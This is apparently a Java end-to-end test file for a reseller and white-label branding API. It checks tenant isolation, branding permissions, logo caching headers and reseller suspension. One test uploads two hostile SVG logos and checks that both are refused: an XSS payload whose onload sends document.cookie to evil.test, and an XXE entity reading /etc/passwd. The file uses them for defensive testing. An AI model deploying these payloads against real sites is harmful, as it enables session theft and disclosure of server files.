package io.omnireach.app.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Resellers and white-label branding through the REST API: the Owner opens two resellers, each
 * opens a tenant, and neither reseller can see or touch the other's reseller, brand or tenant.
 */
class ResellersApiIT {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final HttpClient HTTP = HttpClient.newHttpClient();
  private static final String PASSWORD = "a-long-secret-passphrase";

  static String owner;
  static long alphaId;
  static long betaId;
  static String alpha;
  static String beta;

  @BeforeAll
  static void two_resellers_with_a_tenant_each() throws Exception {
    owner = E2e.token("owner@omnireach.demo");
    alphaId = createReseller("alpha-partners", "Alpha Partners", "#1e3a8a", "rex@alpha.test");
    betaId = createReseller("beta-partners", "Beta Partners", "#14532d", "rex@beta.test");
    alpha = E2e.token("rex@alpha.test", PASSWORD, null);
    beta = E2e.token("rex@beta.test", PASSWORD, null);
    createTenant(alpha, "alpha-client", "ada@alpha-client.test");
    createTenant(beta, "beta-client", "bob@beta-client.test");
  }

  @Test
  void the_owner_lists_both_resellers_with_their_plan_and_brand() throws Exception {
    JsonNode list = json(E2e.get("/api/v1/resellers", owner), 200);
    List<String> slugs = new ArrayList<>();
    list.forEach(r -> slugs.add(r.get("slug").asText()));
    assertThat(slugs).contains("alpha-partners", "beta-partners", "demo");
    JsonNode a = json(E2e.get("/api/v1/resellers/" + alphaId, owner), 200);
    assertThat(a.get("status").asText()).isEqualTo("ACTIVE");
    assertThat(a.get("wholesalePlan").asText()).isEqualTo("WHITE_LABEL");
    assertThat(a.at("/brand/productName").asText()).isEqualTo("Alpha Partners Reach");
    assertThat(a.at("/brand/primaryColor").asText()).isEqualTo("#1e3a8a");
    assertThat(a.get("tenantOverridable").toString()).isEqualTo("[\"logoUrl\",\"primaryColor\"]");
  }

  @Test
  void a_reseller_never_sees_or_changes_another_resellers_tenant_or_brand() throws Exception {
    JsonNode tenants = json(E2e.get("/api/v1/tenants", alpha), 200);
    List<String> slugs = new ArrayList<>();
    tenants.forEach(t -> slugs.add(t.get("slug").asText()));
    assertThat(slugs).containsExactly("alpha-client");

    String other = "/api/v1/tenants/beta-client";
    assertThat(E2e.get(other, alpha).statusCode()).isEqualTo(404);
    assertThat(E2e.send("PATCH", other, alpha, "{\"plan\":\"FREE\"}").statusCode()).isEqualTo(404);
    assertThat(
            E2e.send("PATCH", other, alpha, "{\"branding\":{\"primaryColor\":\"#000000\"}}")
                .statusCode())
        .isEqualTo(404);
    assertThat(E2e.send("POST", other + "/suspend", alpha, null).statusCode()).isEqualTo(404);
    assertThat(E2e.send("POST", other + "/resume", alpha, null).statusCode()).isEqualTo(404);
    assertThat(E2e.send("DELETE", other, alpha, null).statusCode()).isEqualTo(404);

    String otherReseller = "/api/v1/resellers/" + betaId;
    HttpResponse<String> read = E2e.get(otherReseller, alpha);
    assertThat(read.statusCode()).isEqualTo(404);
    assertThat(read.headers().firstValue("Content-Type"))
        .hasValueSatisfying(t -> assertThat(t).startsWith("application/problem+json"));
    assertThat(
            E2e.send("PATCH", otherReseller, alpha, "{\"brand\":{\"productName\":\"Hijacked\"}}")
                .statusCode())
        .isEqualTo(404);
    assertThat(upload(otherReseller + "/logo", alpha, "image/png", png()).statusCode())
        .isEqualTo(404);
    assertThat(E2e.get("/api/v1/resellers", alpha).statusCode()).isEqualTo(403);
    assertThat(
            E2e.send("POST", "/api/v1/resellers", alpha, "{\"slug\":\"sneaky\",\"name\":\"S\"}")
                .statusCode())
        .isEqualTo(403);
    assertThat(E2e.send("POST", otherReseller + "/suspend", alpha, null).statusCode())
        .isEqualTo(403);

    // nothing of beta's changed
    JsonNode b = json(E2e.get(otherReseller, owner), 200);
    assertThat(b.at("/brand/productName").asText()).isEqualTo("Beta Partners Reach");
    JsonNode bt = json(E2e.get("/api/v1/tenants/beta-client", owner), 200);
    assertThat(bt.get("status").asText()).isEqualTo("ACTIVE");
    assertThat(bt.get("plan").asText()).isEqualTo("TEAM");
  }

  @Test
  void a_reseller_rebrands_itself_and_its_tenant_but_not_its_commercial_terms() throws Exception {
    JsonNode own =
        json(
            E2e.send(
                "PATCH",
                "/api/v1/resellers/" + alphaId,
                alpha,
                "{\"brand\":{\"supportEmail\":\"help@alpha.test\"},"
                    + "\"tenantOverridable\":[\"logoUrl\",\"primaryColor\",\"supportUrl\"]}"),
            200);
    assertThat(own.at("/brand/supportEmail").asText()).isEqualTo("help@alpha.test");
    HttpResponse<String> poweredBy =
        E2e.send("PATCH", "/api/v1/resellers/" + alphaId, alpha, "{\"showPoweredBy\":false}");
    assertThat(poweredBy.statusCode()).isEqualTo(403);
    assertThat(json(poweredBy, 403).get("field").asText()).isEqualTo("showPoweredBy");

    HttpResponse<String> light =
        E2e.send(
            "PATCH",
            "/api/v1/resellers/" + alphaId,
            alpha,
            "{\"brand\":{\"accentColor\":\"#38bdf8\",\"supportEmail\":\"changed@alpha.test\"}}");
    JsonNode problem = json(light, 400);
    assertThat(problem.get("field").asText()).isEqualTo("accentColor");
    assertThat(problem.get("detail").asText())
        .contains("too light", "contrast ratio of 2.14:1", "at least 4.5:1");
    assertThat(
            json(E2e.get("/api/v1/resellers/" + alphaId, alpha), 200)
                .at("/brand/supportEmail")
                .asText())
        .isEqualTo("help@alpha.test");

    JsonNode tenant =
        json(
            E2e.send(
                "PATCH",
                "/api/v1/tenants/alpha-client",
                alpha,
                "{\"plan\":\"scale\",\"branding\":{\"primaryColor\":\"#7f1d1d\"}}"),
            200);
    assertThat(tenant.get("plan").asText()).isEqualTo("SCALE");
    assertThat(tenant.get("seatLimit").asInt()).isEqualTo(500);
    assertThat(tenant.at("/branding/primaryColor").asText()).isEqualTo("#7f1d1d");
    assertThat(tenant.get("seatsUsed").asInt()).isEqualTo(1);
    assertThat(tenant.get("emailsSentThisMonth").asLong()).isZero();
    assertThat(tenant.has("lastActivityAt")).isTrue();

    HttpResponse<String> badPlan =
        E2e.send("PATCH", "/api/v1/tenants/alpha-client", alpha, "{\"plan\":\"PLATINUM\"}");
    assertThat(json(badPlan, 400).get("field").asText()).isEqualTo("plan");
  }

  @Test
  void a_tenant_admin_reads_the_effective_brand_and_overrides_only_what_the_reseller_allows()
      throws Exception {
    String admin = E2e.token("ada@alpha-client.test", PASSWORD, null);
    JsonNode branding = json(E2e.get("/api/v1/branding", admin), 200);
    assertThat(branding.at("/brand/productName").asText()).isEqualTo("Alpha Partners Reach");
    assertThat(branding.at("/sources/productName").asText()).isEqualTo("RESELLER");
    assertThat(branding.get("overridable").toString()).contains("\"logoUrl\"");
    assertThat(branding.get("locked").toString()).contains("\"productName\"");
    assertThat(branding.get("showPoweredBy").asBoolean()).isTrue();

    HttpResponse<String> locked =
        E2e.send("PUT", "/api/v1/branding", admin, "{\"productName\":\"My Own Name\"}");
    JsonNode problem = json(locked, 403);
    assertThat(problem.get("field").asText()).isEqualTo("productName");
    assertThat(problem.get("detail").asText()).contains("does not let tenants change");

    JsonNode overrides = branding.get("overrides").deepCopy();
    ((ObjectNode) overrides).put("logoUrl", "https://cdn.alpha-client.test/logo.png");
    JsonNode after =
        json(E2e.send("PUT", "/api/v1/branding", admin, JSON.writeValueAsString(overrides)), 200);
    assertThat(after.at("/brand/logoUrl").asText())
        .isEqualTo("https://cdn.alpha-client.test/logo.png");
    assertThat(after.at("/sources/logoUrl").asText()).isEqualTo("TENANT");
    assertThat(after.at("/brand/productName").asText()).isEqualTo("Alpha Partners Reach");

    String sales = E2e.token("sales@acme.demo");
    assertThat(E2e.send("PUT", "/api/v1/branding", sales, "{}").statusCode()).isEqualTo(403);
    assertThat(E2e.get("/api/v1/branding", owner).statusCode()).isEqualTo(403);
  }

  @Test
  void a_malicious_svg_logo_is_refused_and_nothing_changes() throws Exception {
    String before =
        json(E2e.get("/api/v1/resellers/" + alphaId, owner), 200).at("/brand/logoUrl").asText();
    String svg =
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"10\" height=\"10\""
            + " onload=\"fetch('https://evil.test/'+document.cookie)\"/></svg>";
    HttpResponse<String> refused =
        upload("/api/v1/resellers/" + alphaId + "/logo", alpha, "image/svg+xml", svg.getBytes());
    JsonNode problem = json(refused, 400);
    assertThat(problem.get("field").asText()).isEqualTo("logoUrl");
    assertThat(problem.get("detail").asText()).contains("event handler");

    String admin = E2e.token("ada@alpha-client.test", PASSWORD, null);
    String xxe =
        "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
            + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>";
    assertThat(
            json(upload("/api/v1/branding/logo", admin, "image/svg+xml", xxe.getBytes()), 400)
                .get("detail")
                .asText())
        .contains("DOCTYPE");
    assertThat(
            json(E2e.get("/api/v1/resellers/" + alphaId, owner), 200).at("/brand/logoUrl").asText())
        .isEqualTo(before);
  }

  @Test
  void a_png_logo_is_served_at_a_hashed_url_with_long_cache_headers_and_an_etag() throws Exception {
    byte[] png = png();
    JsonNode reseller =
        json(upload("/api/v1/resellers/" + alphaId + "/logo", alpha, "image/png", png), 200);
    String url = reseller.at("/brand/logoUrl").asText();
    assertThat(url).matches("/brand-assets/[0-9a-f]{64}\\.png");

    HttpResponse<byte[]> served =
        HTTP.send(
            HttpRequest.newBuilder(URI.create(E2e.BASE_URL + url)).build(),
            HttpResponse.BodyHandlers.ofByteArray());
    assertThat(served.statusCode()).isEqualTo(200);
    assertThat(served.body()).isEqualTo(png);
    assertThat(served.headers().firstValue("Content-Type")).hasValue("image/png");
    assertThat(served.headers().firstValue("Cache-Control"))
        .hasValue("public, max-age=31536000, immutable");
    assertThat(served.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(served.headers().firstValue("Content-Security-Policy"))
        .hasValueSatisfying(csp -> assertThat(csp).contains("default-src 'none'", "sandbox"));
    String etag = served.headers().firstValue("ETag").orElseThrow();

    HttpResponse<byte[]> again =
        HTTP.send(
            HttpRequest.newBuilder(URI.create(E2e.BASE_URL + url))
                .header("If-None-Match", etag)
                .build(),
            HttpResponse.BodyHandlers.ofByteArray());
    assertThat(again.statusCode()).isEqualTo(304);
    assertThat(again.body()).isEmpty();

    String wrongExtension = url.replace(".png", ".svg");
    assertThat(E2e.get(wrongExtension, null).statusCode()).isEqualTo(404);
  }

  @Test
  void suspending_a_reseller_stops_its_users_and_its_tenants_users_from_signing_in()
      throws Exception {
    long id = createReseller("gamma-partners", "Gamma Partners", "#4c1d95", "rex@gamma.test");
    createTenant(
        E2e.token("rex@gamma.test", PASSWORD, null), "gamma-client", "gil@gamma-client.test");

    JsonNode suspended =
        json(E2e.send("POST", "/api/v1/resellers/" + id + "/suspend", owner, null), 200);
    assertThat(suspended.get("status").asText()).isEqualTo("SUSPENDED");
    for (String email : List.of("rex@gamma.test", "gil@gamma-client.test")) {
      HttpResponse<String> signIn = signIn(email);
      assertThat(signIn.statusCode()).isEqualTo(403);
      assertThat(json(signIn, 403).get("detail").asText()).contains("reseller is suspended");
    }
    json(E2e.send("POST", "/api/v1/resellers/" + id + "/resume", owner, null), 200);
    assertThat(signIn("gil@gamma-client.test").statusCode()).isEqualTo(200);
  }

  @Test
  void the_reseller_and_branding_endpoints_are_in_the_openapi_document() throws Exception {
    String doc = E2e.get("/openapi", null).body();
    assertThat(doc)
        .contains(
            "/api/v1/resellers:",
            "/api/v1/resellers/{id}:",
            "/api/v1/resellers/{id}/suspend:",
            "/api/v1/resellers/{id}/resume:",
            "/api/v1/resellers/{id}/logo:",
            "/api/v1/resellers/{id}/favicon:",
            "/api/v1/branding:",
            "/api/v1/branding/logo:",
            "/api/v1/branding/favicon:",
            "Northwind Reach",
            "does not let tenants change",
            "emailsSentThisMonth");
  }

  // ---- helpers ------------------------------------------------------------------------------

  private static long createReseller(String slug, String name, String colour, String email)
      throws Exception {
    String body =
        "{\"slug\":\""
            + slug
            + "\",\"name\":\""
            + name
            + "\",\"wholesalePlan\":\"white_label\",\"brand\":{\"productName\":\""
            + name
            + " Reach\",\"primaryColor\":\""
            + colour
            + "\"},\"userEmail\":\""
            + email
            + "\",\"userName\":\"Rex\",\"userPassword\":\""
            + PASSWORD
            + "\"}";
    HttpResponse<String> r = E2e.send("POST", "/api/v1/resellers", owner, body);
    return json(r, 201).get("id").asLong();
  }

  private static void createTenant(String resellerToken, String slug, String adminEmail)
      throws Exception {
    String body =
        "{\"slug\":\""
            + slug
            + "\",\"displayName\":\""
            + slug
            + "\",\"adminEmail\":\""
            + adminEmail
            + "\",\"adminName\":\"First Admin\",\"adminPassword\":\""
            + PASSWORD
            + "\"}";
    json(E2e.send("POST", "/api/v1/tenants", resellerToken, body), 201);
  }

  private static HttpResponse<String> signIn(String email) throws Exception {
    return E2e.send(
        "POST",
        "/api/v1/auth/token",
        null,
        "{\"email\":\"" + email + "\",\"password\":\"" + PASSWORD + "\"}");
  }

  private static HttpResponse<String> upload(String path, String token, String type, byte[] body)
      throws Exception {
    return HTTP.send(
        HttpRequest.newBuilder(URI.create(E2e.BASE_URL + path))
            .header("Authorization", "Bearer " + token)
            .header("Content-Type", type)
            .PUT(HttpRequest.BodyPublishers.ofByteArray(body))
            .build(),
        HttpResponse.BodyHandlers.ofString());
  }

  private static JsonNode json(HttpResponse<String> r, int expectedStatus) throws Exception {
    assertThat(r.statusCode()).as(r.body()).isEqualTo(expectedStatus);
    return JSON.readTree(r.body());
  }

  /** A real 32×32 PNG. */
  private static byte[] png() throws Exception {
    BufferedImage image = new BufferedImage(32, 32, BufferedImage.TYPE_INT_RGB);
    var g = image.createGraphics();
    g.setColor(new Color(0x1e3a8a));
    g.fillRect(0, 0, 32, 32);
    g.dispose();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ImageIO.write(image, "png", out);
    return out.toByteArray();
  }
}
